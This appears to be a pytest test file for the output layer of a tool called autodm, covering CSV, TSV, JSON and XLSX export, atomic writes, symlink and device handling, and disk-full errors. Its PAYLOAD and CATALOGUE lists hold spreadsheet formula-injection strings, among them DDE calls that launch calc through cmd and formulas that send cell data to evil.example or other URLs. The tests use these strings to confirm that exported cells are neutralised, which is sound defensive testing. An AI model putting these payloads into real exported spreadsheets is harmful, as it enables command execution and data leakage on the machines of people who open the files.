from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from autodm import output
from autodm.errors import OutputError
from autodm.output import FORMATS, atomic_path, neutralise, render, write

PAYLOADS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "=HYPERLINK(\"x\")",
            " =1", "=DDE(\"cmd\";\"/C calc\";\"x\")"]


def _df() -> pd.DataFrame:
    return pd.DataFrame({
        "message_id": ["1", "2"], "sent_at": pd.to_datetime(["2024-01-01T10:00:00Z", None], utc=True),
        "score": [0.91234, 0.1], "verdict": ["auto", "personal"], "text": ["=1+1 café 🚀", "-5"],
    })


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_payloads(payload: str) -> None:
    assert neutralise(payload).startswith("'")


@pytest.mark.parametrize("value", ["-5", "+44", "3.14", "hello", "", "e-mail me"])
def test_plain_values_untouched(value: str) -> None:
    assert neutralise(value) == value


def test_csv_is_safe_and_keeps_numbers() -> None:
    text = render(_df(), "csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["message_id", "sent_at", "score", "verdict", "text"]
    assert rows[1] == ["1", "2024-01-01T10:00:00Z", "0.91234", "auto", "'=1+1 café 🚀"]
    assert rows[2][1] == "" and rows[2][4] == "-5"
    assert render(_df(), "csv", safe=False).decode().splitlines()[1].endswith("=1+1 café 🚀")


def test_tsv_json_jsonl() -> None:
    assert render(_df(), "tsv").decode().splitlines()[0] == "message_id\tsent_at\tscore\tverdict\ttext"
    data = json.loads(render(_df(), "json"))
    assert data[0]["score"] == 0.91234 and data[1]["sent_at"] is None and data[0]["text"] == "=1+1 café 🚀"
    lines = render(_df(), "jsonl").decode().splitlines()
    assert len(lines) == 2 and json.loads(lines[1])["verdict"] == "personal"


def test_xlsx_cells_are_text_and_safe(tmp_path: Path) -> None:
    out = tmp_path / "s.xlsx"
    df = _df()
    df.loc[1, "text"] = "bad\x01char"
    write(df, "xlsx", out)
    ws = load_workbook(out).active
    assert [c.value for c in ws[1]] == ["message_id", "sent_at", "score", "verdict", "text"]
    assert ws["E2"].value == "'=1+1 café 🚀" and ws["E2"].data_type == "s"
    assert ws["C2"].value == 0.91234
    assert ws["E3"].value == "badchar"


def test_write_file_atomic_with_bom_and_never_over_input(tmp_path: Path) -> None:
    out = tmp_path / "scores.csv"
    write(_df(), "csv", out)
    assert out.read_bytes().startswith(b"\xef\xbb\xbfmessage_id,")
    assert [p.name for p in tmp_path.iterdir()] == ["scores.csv"]  # no temp left behind
    src = tmp_path / "inbox.json"
    src.write_text("{}", encoding="utf-8")
    with pytest.raises(OutputError, match="refusing to overwrite an input"):
        write(_df(), "csv", src, forbid=(src,))
    assert src.read_text(encoding="utf-8") == "{}"
    with pytest.raises(OutputError, match="does not exist"):
        write(_df(), "csv", tmp_path / "nope" / "x.csv")


class _Terminal(io.BytesIO):
    def isatty(self) -> bool:
        return True


def test_stream_has_no_bom_and_xlsx_goes_anywhere_but_a_terminal() -> None:
    buf = io.BytesIO()
    write(_df(), "csv", None, stream=buf)
    assert buf.getvalue().startswith(b"message_id,")
    piped = io.BytesIO()  # "> scores.xlsx" or "| upload": it was refused like a terminal
    write(_df(), "xlsx", None, stream=piped)
    assert piped.getvalue().startswith(b"PK\x03\x04")
    with pytest.raises(OutputError, match="xlsx is a binary format, not for a terminal"):
        write(_df(), "xlsx", None, stream=_Terminal())
    assert set(FORMATS) == {"table", "csv", "tsv", "json", "jsonl", "xlsx"}


# --------------------------------------------------------------------------- spreadsheet injection

#: Formula payloads a DM could carry; each must come out inert in csv, tsv and xlsx.
CATALOGUE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"click\")", "=WEBSERVICE(\"https://x\")",
    "=IMPORTXML(CONCAT(\"https://x/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "\t", " =1+1", "   @SUM(1)", "\u3000=1", "\u00a0=1", "\u200b=1", "\ufeff+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1", "-", "--1", "+44 20 7946 0958", "-5+cmd|' /C calc'!A0", "-1e5+1",
    "=1\n2",
]
#: Values that must stay exactly as they are: numbers stay numbers, text stays text.
LEGIT = ["-5", "-3.2", "+44", "-1,234.5", "1e-3", "-.5", " -5 ", "hello", "", "e-mail me", "a=b", "1+1",
         "'=already quoted", "café 🚀", "email@example.com"]


@pytest.mark.parametrize("payload", CATALOGUE)
def test_every_payload_is_neutralised(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", LEGIT)
def test_legitimate_values_are_unchanged(value: str) -> None:
    assert neutralise(value) == value


def _catalogue_frame() -> pd.DataFrame:
    values = CATALOGUE + LEGIT
    return pd.DataFrame({"message_id": [str(i) for i in range(len(values))], "score": [0.5] * len(values),
                         "text": values, "sender_name": values})


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_delimited_outputs_are_inert(fmt: str) -> None:
    df = _catalogue_frame()
    text = render(df, fmt).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="," if fmt == "csv" else "\t"))
    assert rows[0] == ["message_id", "score", "text", "sender_name"]
    cells = [r[2] for r in rows[1:]]
    assert cells == [neutralise(v) for v in df["text"]]
    assert [r[3] for r in rows[1:]] == cells  # every text column, not just text
    for cell in cells:
        first = cell.lstrip()[:1]
        assert cell == "" or (cell[0] not in "\t\r\n" and (first not in "=+-@＝＋－＠" or
                                                       output._PLAIN_NUMBER.fullmatch(cell.strip())))
    raw = render(df, fmt, safe=False).decode("utf-8")
    assert "=cmd|' /C calc'!A0" in raw and "'=cmd" not in raw  # --no-sanitize writes them as they are


def test_xlsx_output_is_inert_read_back(tmp_path: Path) -> None:
    df = _catalogue_frame()
    out = tmp_path / "scores.xlsx"
    write(df, "xlsx", out)
    ws = load_workbook(out).active
    got = [(c.value, c.data_type) for c in ws["C"][1:]]
    # XML reads a bare CR back as LF
    expected = [output._ILLEGAL_XLSX.sub("", neutralise(v)).replace("\r", "\n") or None for v in df["text"]]
    assert [v for v, _ in got] == expected
    assert all(t == "s" for v, t in got if v is not None)  # strings, never formulas ("f")
    assert ws["C2"].value == "'=1+1" and ws["B2"].value == 0.5 and ws["B2"].data_type == "n"
    with zipfile.ZipFile(out) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_a_carriage_return_inside_a_cell_does_not_split_the_row() -> None:
    df = pd.DataFrame({"a": ["one\rtwo", "x"], "b": ["3\r\n4", "y"]})
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        text = render(df, fmt).decode()
        assert text == f'a{sep}b\n"one\rtwo"{sep}"3\r\n4"\nx{sep}y\n'
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
        assert rows[1:] == [["one\rtwo", "3\r\n4"], ["x", "y"]]


def test_phone_numbers_and_negative_numbers_stay_readable(tmp_path: Path) -> None:
    df = pd.DataFrame({"text": ["+44 20 7946 0958", "-5", "-3.2"]})
    rows = list(csv.reader(io.StringIO(render(df, "csv").decode())))
    assert [r[0] for r in rows[1:]] == ["'+44 20 7946 0958", "-5", "-3.2"]
    out = tmp_path / "s.xlsx"
    write(df, "xlsx", out)
    assert [c.value for c in load_workbook(out).active["A"][1:]] == ["'+44 20 7946 0958", "-5", "-3.2"]


# --------------------------------------------------------------------------- atomic writes


class Boom(Exception):
    pass


@pytest.mark.parametrize("exc", [Boom, KeyboardInterrupt])
def test_exception_mid_write_leaves_no_partial_and_no_temp_file(tmp_path: Path, exc: type[BaseException]) -> None:
    out = tmp_path / "scores.csv"
    with pytest.raises(exc), atomic_path(out) as tmp:
        tmp.write_bytes(b"half a fi")
        raise exc()
    assert list(tmp_path.iterdir()) == []
    out.write_bytes(b"the old, complete output")
    with pytest.raises(exc), atomic_path(out) as tmp:
        tmp.write_bytes(b"half")
        raise exc()
    assert list(tmp_path.iterdir()) == [out] and out.read_bytes() == b"the old, complete output"


@pytest.mark.parametrize("exc", [Boom, KeyboardInterrupt])
def test_write_interrupted_while_writing_bytes(tmp_path: Path, exc: type[BaseException],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "scores.csv"
    out.write_bytes(b"old")

    def fail_fsync(fd: int) -> None:
        raise exc()

    monkeypatch.setattr(output.os, "fsync", fail_fsync)  # after the bytes, before the rename
    with pytest.raises(exc):
        write(_df(), "csv", out)
    assert list(tmp_path.iterdir()) == [out] and out.read_bytes() == b"old"


def test_disk_full_is_an_output_error_and_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(output.os, "fsync", full)
    with pytest.raises(OutputError, match=r"scores\.csv: cannot write \(No space left on device\)"):
        write(_df(), "csv", tmp_path / "scores.csv")
    assert list(tmp_path.iterdir()) == []


def test_output_permissions_follow_the_umask(tmp_path: Path) -> None:
    out = tmp_path / "scores.csv"
    old = os.umask(0o022)
    try:
        write(_df(), "csv", out)
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o644


def test_never_overwrites_an_input_by_any_spelling(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    src = tmp_path / "in" / "inbox.json"
    src.parent.mkdir()
    src.write_text("{}", encoding="utf-8")
    (tmp_path / "other").mkdir()
    link = tmp_path / "link.json"
    link.symlink_to(src)
    hard = tmp_path / "hard.json"
    os.link(src, hard)
    monkeypatch.chdir(tmp_path / "other")
    spellings = [src, Path("../in/inbox.json"), Path("../in/./inbox.json"), Path("..//in/inbox.json"),
                 link, hard, tmp_path / "in" / ".." / "in" / "inbox.json"]
    for out in spellings:
        with pytest.raises(OutputError, match="refusing to overwrite an input file"):
            write(_df(), "csv", out, forbid=(Path("../in/inbox.json"),))
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "message_1.json").write_text("{}", encoding="utf-8")
    with pytest.raises(OutputError, match="refusing to overwrite an input file"):
        write(_df(), "csv", folder / "message_1.json", forbid=(folder,))
    write(_df(), "csv", folder / "scores.csv", forbid=(folder,))  # a new file beside the inputs is fine
    assert src.read_text(encoding="utf-8") == "{}" and link.is_symlink()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export", "hard.json", "in", "link.json", "other"]


def test_check_target_fails_fast(tmp_path: Path) -> None:
    with pytest.raises(OutputError, match="is a folder"):
        output.check_target(tmp_path)
    with pytest.raises(OutputError, match="does not exist"):
        output.check_target(tmp_path / "no" / "x.csv")
    output.check_target(tmp_path / "x.csv")
    assert list(tmp_path.iterdir()) == []


def test_an_output_that_is_a_symlink_is_replaced_not_written_through(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere.csv"
    elsewhere.write_text("keep", encoding="utf-8")
    out = tmp_path / "scores.csv"
    out.symlink_to(elsewhere)
    write(_df(), "csv", out)
    assert not out.is_symlink() and out.read_bytes().startswith(b"\xef\xbb\xbfmessage_id,")
    assert elsewhere.read_text(encoding="utf-8") == "keep"


def _read_fifo(fifo: Path, got: list[bytes]) -> threading.Thread:
    """A reader on ``fifo`` in a thread, as ``cat fifo`` would be; what it reads lands in ``got``."""
    def read() -> None:
        with open(fifo, "rb") as fh:
            got.append(fh.read())
    t = threading.Thread(target=read, daemon=True)
    t.start()
    return t


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_is_written_in_place_and_a_link_to_one_is_replaced(tmp_path: Path) -> None:
    """-o on a FIFO (or a device) replaced it with a regular file: its reader got nothing, and as
    root ``-o /dev/full`` left /dev/full a 60 KB file. A symlink to one is still replaced, never
    written through: a link planted in a shared folder must not send the output elsewhere."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = _read_fifo(fifo, got)
    write(_df(), "csv", fifo)
    reader.join(timeout=30)
    assert got and got[0].startswith(b"message_id,")  # a pipe gets no BOM
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    link = tmp_path / "to-pipe.csv"
    link.symlink_to(fifo)
    os.chmod(fifo, 0o600)
    write(_df(), "csv", link)  # no reader needed: the FIFO is never opened
    assert not link.is_symlink() and link.read_bytes().startswith(b"\xef\xbb\xbfmessage_id,")
    assert stat.S_IMODE(link.stat().st_mode) != 0o600  # a new file's mode, not the link target's
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe", "to-pipe.csv"]  # no temp file left


def test_names_of_standard_output_and_devices_are_written_in_place(tmp_path: Path) -> None:
    # /dev/stdout while stdout goes to a file (``-o /dev/stdout > scores.csv``) points at a
    # regular file, yet is a link in /dev that a rename would replace
    for name in ("/dev/stdout", "/dev/null", "/proc/self/fd/1", "/dev/fd/1"):
        if os.path.exists(name):
            assert output.is_stream(Path(name)), name
    assert output.fd_named(Path("/dev/stdout")) == 1 and output.fd_named(Path("/proc/self/fd/7")) == 7
    assert output.fd_named(Path("/proc/1/fd/1")) is None if os.getpid() != 1 else True
    assert not output.is_stream(tmp_path / "new.csv")
    (tmp_path / "old.csv").write_text("x", encoding="utf-8")
    assert not output.is_stream(tmp_path / "old.csv")
    assert not output.is_stream(tmp_path)
    with pytest.raises(OutputError, match="is standard input"):
        write(_df(), "csv", Path("/dev/stdin"))


_APPEND = """
import sys
from pathlib import Path
import pandas as pd
from autodm.output import write
write(pd.DataFrame({"a": [1, 2]}), "csv", Path("/dev/stdout"))
"""


def test_dev_stdout_appends_where_the_shell_said(tmp_path: Path) -> None:
    """``-o /dev/stdout >> all.csv`` reopened the file and truncated it: the earlier lines were gone."""
    import subprocess
    import sys

    out = tmp_path / "all.csv"
    out.write_bytes(b"earlier\n")
    with open(out, "ab") as fh:
        r = subprocess.run([sys.executable, "-c", _APPEND], stdout=fh, stderr=subprocess.PIPE, timeout=60)
    assert r.returncode == 0, r.stderr
    assert out.read_bytes() == b"earlier\na\n1\n2\n"  # appended, and no BOM mid-file
    with open(out, "wb") as fh:  # a new file behind ">": a spreadsheet's file, so the BOM
        subprocess.run([sys.executable, "-c", _APPEND], stdout=fh, check=True, timeout=60)
    assert out.read_bytes() == b"\xef\xbb\xbfa\n1\n2\n"


def test_a_regular_file_under_dev_is_replaced_atomically(tmp_path: Path) -> None:
    shm = Path("/dev/shm")
    if not shm.is_dir() or not os.access(shm, os.W_OK):
        pytest.skip("needs a writable /dev/shm")
    f = shm / f"autodm-test-{os.getpid()}.csv"
    try:
        f.write_bytes(b"old")
        assert not output.is_stream(f)
        write(_df(), "csv", f)
        assert f.read_bytes().startswith(b"\xef\xbb\xbfmessage_id,")
    finally:
        f.unlink(missing_ok=True)


# --------------------------------------------------------------------------- the fast delimited writer

def _csv_module(df: pd.DataFrame, sep: str) -> bytes:
    """What the csv module writes for ``df`` after the safe pass: the reference for the fast writer."""
    plain = output._safe_frame(output._plain(df))
    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\n").writerow(list(plain.columns))
    for row in plain.itertuples(index=False, name=None):
        one = io.StringIO()  # "\r\n" so a lone CR is quoted (what autodm promises), then "\n"
        csv.writer(one, delimiter=sep, lineterminator="\r\n").writerow(row)
        buf.write(one.getvalue()[:-2] + "\n")
    return buf.getvalue().encode("utf-8")


_TEXTS = st.one_of(st.sampled_from(["", " ", "a,b", 'say "hi"', "x\ny", "\r", "=1", "-5", "+44 1", "\t@x", "é🚀",
                                    "'", "NaN", "None"]), st.text(max_size=12))


@settings(max_examples=150, deadline=None)
@given(rows=st.lists(st.tuples(st.one_of(st.none(), _TEXTS),
                               st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True)),
                               st.one_of(st.none(), st.integers(-2**33, 2**33).map(lambda s: s * 10**9)),
                               st.sampled_from(["auto", "personal"])), max_size=30),
       sep=st.sampled_from([",", "\t"]))
def test_fast_delimited_writer_is_the_csv_module_byte_for_byte(rows: list[tuple], sep: str) -> None:
    df = pd.DataFrame(rows, columns=["text", "score", "ns", "verdict"])
    df["score"] = df["score"].astype("float64")
    df["sent_at"] = pd.to_datetime(df.pop("ns"), utc=True)
    df["text_str"] = df["text"].astype("str")
    fmt = "csv" if sep == "," else "tsv"
    assert render(df, fmt) == _csv_module(df, sep)


def test_fast_writer_chunks_join_to_the_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    df = pd.DataFrame({"a": [f"v{i % 7}" for i in range(1000)], "b": [i / 3 for i in range(1000)],
                       "c": [-0.0, 0.0] * 500})
    whole = render(df, "csv")
    monkeypatch.setattr(output, "CHUNK_ROWS", 64)
    assert render(df, "csv") == whole
    rows = list(csv.reader(io.StringIO(whole.decode())))[1:]
    assert [r[0] for r in rows] == list(df["a"]) and [float(r[1]) for r in rows] == list(df["b"])
    assert [r[2] for r in rows] == ["-0.0", "0.0"] * 500  # factorizing floats as values would merge them


def test_single_column_empty_cells_are_quoted_like_the_csv_module() -> None:
    df = pd.DataFrame({"only": ["", None, "x"]})
    assert render(df, "csv") == _csv_module(df, ",") == b'only\n""\n""\nx\n'


_CELL_TEXTS = st.one_of(st.text(max_size=8), st.sampled_from(["\x00", "a\x00b", "\u200b=1", " \u2060@x", "\u3000-1",
                                                              "\x1c+", "＝x", "\t", "a\rb", '"', "ok", ""]))


@settings(max_examples=300, deadline=None)
@given(values=st.lists(_CELL_TEXTS, max_size=12), sep=st.sampled_from([",", "\t"]), safe=st.booleans(),
       end=st.sampled_from([b"", b",", b"\t", b"\n"]))
def test_cells_of_plain_strings_at_c_speed_are_the_same_bytes(values: list[str], sep: str, safe: bool,
                                                               end: bytes) -> None:
    fast = output._plain_str_cells(values, sep, safe, end)
    if fast is not None:
        assert fast == output._cell_bytes_each(values, sep, safe, end)
    assert output._cell_bytes(values, sep, safe, end) == output._cell_bytes_each(values, sep, safe, end)
    plain = [f"id{i}" for i in range(5)]
    assert output._plain_str_cells(plain, sep, safe, end) == [v.encode() + end for v in plain]


@pytest.mark.parametrize("lead", ["\x00", "\x01", "\x1b"])
def test_xlsx_neutralises_a_formula_behind_a_character_it_drops(tmp_path: Path, lead: str) -> None:
    out = tmp_path / "s.xlsx"
    df = _df()
    df.loc[1, "text"] = lead + "=cmd()"
    write(df, "xlsx", out)
    assert load_workbook(out).active["E3"].value == "'=cmd()"


def test_replacing_a_file_keeps_its_permissions(tmp_path: Path) -> None:
    out = tmp_path / "private.csv"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o600)
    write(_df(), "csv", out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and out.read_bytes().startswith(b"\xef\xbb\xbf")


def test_stdout_redirected_to_a_new_file_gets_the_bom_a_pipe_or_an_append_does_not(tmp_path: Path) -> None:
    new = tmp_path / "scores.csv"
    with open(new, "wb") as fh:  # autodm scan ... > scores.csv
        write(_df(), "csv", None, stream=fh)
    assert new.read_bytes().startswith(b"\xef\xbb\xbfmessage_id,")
    with open(new, "ab") as fh:  # >> scores.csv: no BOM in the middle of a file
        write(_df(), "csv", None, stream=fh)
    assert new.read_bytes().count(b"\xef\xbb\xbf") == 1
    r, w = os.pipe()
    with os.fdopen(w, "wb") as fh, os.fdopen(r, "rb") as rh:
        write(_df().head(1), "csv", None, stream=fh)
        fh.close()
        assert rh.read().startswith(b"message_id,")


def test_a_full_disk_behind_stdout_is_one_output_error(tmp_path: Path) -> None:
    class Full(io.BytesIO):
        def write(self, b: bytes) -> int:  # type: ignore[override]
            raise OSError(28, "No space left on device")

    with pytest.raises(OutputError, match=r"^cannot write standard output \(No space left on device\)$"):
        write(_df(), "csv", None, stream=Full())
    with pytest.raises(BrokenPipeError):  # a closed pipe stays the quiet exit it is upstream
        write(_df(), "csv", None, stream=_Broken())


class _FillsUp(io.BytesIO):
    """A buffered stream on a disk with ``room`` bytes left: like BufferedWriter, a write larger
    than the room returns a short count, and only the next one raises ENOSPC."""

    def __init__(self, room: int) -> None:
        super().__init__()
        self.room = room

    def write(self, b: bytes) -> int:  # type: ignore[override]
        if self.room == 0:
            raise OSError(28, "No space left on device")
        n = min(len(b), self.room)
        self.room -= n
        return super().write(bytes(b)[:n])


def test_a_disk_that_fills_mid_chunk_is_an_error_not_a_cut_file(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """``scan -f json > out.json`` on a full disk exited 0 with a cut-off, invalid file: a big
    chunk came back with a short count, and the rest was dropped without a word."""
    big = pd.DataFrame({"message_id": [str(i) for i in range(2000)], "text": ["x" * 50] * 2000})
    with pytest.raises(OutputError, match=r"^cannot write standard output \(No space left on device\)$"):
        write(big, "json", None, stream=_FillsUp(room=40_960))
    whole = _FillsUp(room=10**9)
    write(big, "json", None, stream=whole)  # room enough: every byte, in order
    assert len(json.loads(whole.getvalue())) == 2000
    real_open = open

    def small_disk(file: object, mode: str = "r", *a: object, **k: object) -> object:
        return _FillsUp(room=4096) if mode == "wb" else real_open(file, mode, *a, **k)  # type: ignore[call-overload]

    monkeypatch.setattr("builtins.open", small_disk)  # -o FILE: the temp file must not become the output
    with pytest.raises(OutputError, match=r"out\.json: cannot write \(No space left on device\)"):
        write(big, "json", tmp_path / "out.json")
    monkeypatch.undo()
    assert not (tmp_path / "out.json").exists()


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_o_dev_full_is_one_output_error() -> None:
    """-o /dev/full (a device, written in place) raised OSError from closing the file: the buffer's
    rest failed again on close, outside the handler ("unexpected OSError ... this is a bug")."""
    for fmt in ("csv", "json"):
        with pytest.raises(OutputError, match=r"^cannot write /dev/full \(No space left on device\)$"):
            write(_df(), fmt, Path("/dev/full"))


class _Broken(io.BytesIO):
    def write(self, b: bytes) -> int:  # type: ignore[override]
        raise BrokenPipeError(32, "Broken pipe")
